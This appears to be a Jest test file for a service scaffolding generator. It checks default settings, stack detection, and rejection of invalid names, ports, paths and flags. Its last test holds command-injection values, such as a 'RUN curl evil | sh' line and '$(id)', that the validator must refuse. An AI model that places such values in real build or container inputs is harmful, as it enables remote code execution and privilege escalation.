@@ -1,0 +1,116 @@
+import { describe, expect, it } from '@jest/globals';
+import { InputError, resolveSpec, workspaceDefaults } from '../../generators/src/core/spec.js';
+import { MemoryWorkspace } from '../support/memory-workspace.js';
+
+const resolve = (answers: Record<string, string | number | boolean>, files: Record<string, string> = {}) =>
+  resolveSpec(answers, workspaceDefaults(new MemoryWorkspace(files)));
+
+const errorOf = (answers: Record<string, string | number | boolean>, files: Record<string, string> = {}) => {
+  try {
+    resolve(answers, files);
+  } catch (error) {
+    return error as InputError;
+  }
+  throw new Error('expected an InputError');
+};
+
+describe('resolveSpec defaults', () => {
+  it('needs only name and stack', () => {
+    const { spec, flags } = resolve({ name: 'billing-api', stack: 'python' });
+    expect(spec).toMatchObject({
+      name: 'billing-api',
+      stack: 'python',
+      appType: 'api',
+      packageManager: 'pip',
+      port: 8000,
+      healthPath: '/health',
+      mode: 'new',
+      uid: 1000,
+      gid: 1000,
+      runtimeVersion: '3.13',
+    });
+    expect(flags).toEqual({ force: false, dryRun: false, skipInstall: false });
+  });
+
+  it('gives frontends uid 1001 and node port 3000', () => {
+    expect(resolve({ name: 'web', stack: 'nextjs' }).spec).toMatchObject({ appType: 'frontend', uid: 1001, port: 3000 });
+  });
+
+  it('gives workers no port and no health path', () => {
+    expect(resolve({ name: 'jobs', stack: 'node', appType: 'worker' }).spec).toMatchObject({ port: undefined, healthPath: undefined });
+  });
+
+  it('coerces flag strings', () => {
+    const { spec, flags } = resolve({ name: 'a', stack: 'node', port: '8080', force: 'true' });
+    expect(spec.port).toBe(8080);
+    expect(flags.force).toBe(true);
+  });
+
+  it('defaults to existing mode, detecting stack and package manager, when the package has a manifest', () => {
+    const files = {
+      'packages/web/package.json': JSON.stringify({ dependencies: { next: '16.0.0' } }),
+      'packages/web/pnpm-lock.yaml': 'lockfileVersion: 9.0\n',
+    };
+    expect(resolve({ name: 'web' }, files).spec).toMatchObject({ mode: 'existing', stack: 'nextjs', packageManager: 'pnpm' });
+  });
+
+  it('prefers poetry.lock over requirements.txt', () => {
+    const files = { 'packages/py/pyproject.toml': '', 'packages/py/requirements.txt': '', 'packages/py/poetry.lock': '' };
+    expect(resolve({ name: 'py' }, files).spec).toMatchObject({ stack: 'python', packageManager: 'poetry' });
+  });
+});
+
+describe('resolveSpec rejects bad input with a one-line message naming the field', () => {
+  it.each([
+    [{ name: 'Billing', stack: 'python' }, 'name'],
+    [{ name: '../etc', stack: 'python' }, 'name'],
+    [{ name: 'a/b', stack: 'python' }, 'name'],
+    [{ name: 'a..b', stack: 'python' }, 'name'],
+    [{ name: '-a', stack: 'python' }, 'name'],
+    [{ name: 'node_modules', stack: 'node' }, 'name'],
+    [{ name: 'x'.repeat(65), stack: 'node' }, 'name'],
+    [{ name: 'a', stack: 'cobol' }, 'stack'],
+    [{ name: 'a', stack: 'python', appType: 'frontend' }, 'appType'],
+    [{ name: 'a', stack: 'nextjs', appType: 'worker' }, 'appType'],
+    [{ name: 'a', stack: 'python', packageManager: 'npm' }, 'packageManager'],
+    [{ name: 'a', stack: 'node', packageManager: 'poetry' }, 'packageManager'],
+    [{ name: 'a', stack: 'node', port: 0 }, 'port'],
+    [{ name: 'a', stack: 'node', port: 65536 }, 'port'],
+    [{ name: 'a', stack: 'node', port: '80a' }, 'port'],
+    [{ name: 'a', stack: 'node', appType: 'worker', port: 3000 }, 'port'],
+    [{ name: 'a', stack: 'node', healthPath: 'health' }, 'healthPath'],
+    [{ name: 'a', stack: 'node', mode: 'existing' }, 'mode'],
+    [{ name: 'a', stack: 'node', force: 'maybe' }, 'force'],
+    [{ name: 'a', stack: 'node', colour: 'blue' }, 'colour'],
+    [{ stack: 'node' }, 'name'],
+    [{ name: 'a' }, 'stack'],
+  ])('%j → %s', (answers, field) => {
+    const error = errorOf(answers);
+    expect(error).toBeInstanceOf(InputError);
+    expect(error.field).toBe(field);
+    expect(error.message.startsWith(`${field}: `)).toBe(true);
+    expect(error.message).not.toMatch(/\n/);
+  });
+
+  it('lists the allowed values', () => {
+    expect(errorOf({ name: 'a', stack: 'python', appType: 'frontend' }).message).toBe(
+      'appType: must be one of api | worker for stack python; got "frontend"',
+    );
+    expect(errorOf({ name: 'a', stack: 'cobol' }).message).toContain('python | node | nextjs');
+  });
+
+  it.each([
+    ['name', 'a\nRUN curl evil | sh'],
+    ['name', 'a"b'],
+    ['name', '$(id)'],
+    ['healthPath', '/health\nUSER root'],
+    ['healthPath', "/health')\"]; RUN id #"],
+    ['healthPath', '/$(id)'],
+    ['port', '8000\nUSER 0'],
+    ['packageManager', 'npm\nRUN id'],
+  ])('refuses injection through %s: %j', (field, value) => {
+    const error = errorOf({ name: 'svc', stack: 'node', [field]: value });
+    expect(error.field).toBe(field);
+    expect(error.message).not.toMatch(/\n/);
+  });
+});
